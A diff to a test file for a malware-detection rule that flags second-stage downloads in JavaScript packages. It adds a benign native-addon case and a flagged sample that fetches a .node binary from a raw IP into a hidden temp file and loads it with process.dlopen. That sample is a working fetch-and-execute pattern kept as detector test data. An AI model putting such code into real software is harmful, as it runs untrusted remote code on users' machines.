@@ -4,6 +4,11 @@ import rule from './second-stage-download.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'a locally built native addon loaded with process.dlopen (no download)',
+      file: 'lib/binding.js',
+      code: "const path = require('path');\nconst m = { exports: {} };\nprocess.dlopen(m, path.join(__dirname, '..', 'build', 'Release', 'addon.node'));\nmodule.exports = m.exports;\n",
+    },
+    {
       name: 'webpack zip of the build output',
       file: 'scripts/pack.js',
       code: `const fs = require('fs');\nfs.writeFileSync('dist/app.zip', buf);\n`,
@@ -15,6 +20,12 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: 'a .node addon downloaded from a raw IP to a hidden temp file, then process.dlopen-ed',
+      file: 'src/native/index.js',
+      code: "const fs = require('fs');\nconst http = require('http');\nconst dest = require('os').tmpdir() + '/.phash.node';\nhttp.get('http://45.61.1.2:1244/prebuilds/linux-x64.node', (res) => {\n  const out = fs.createWriteStream(dest, { mode: 0o755 });\n  res.pipe(out);\n  out.on('finish', () => { const m = { exports: {} }; process.dlopen(m, dest); });\n});\n",
+      findings: [{ line: 7, severity: 'critical', confidence: 'high', message: /fetched, written to disk and executed from a raw IP/ }],
+    },
     {
       name: 'esbuild-style binary install and version check (low)',
       file: 'install.js',
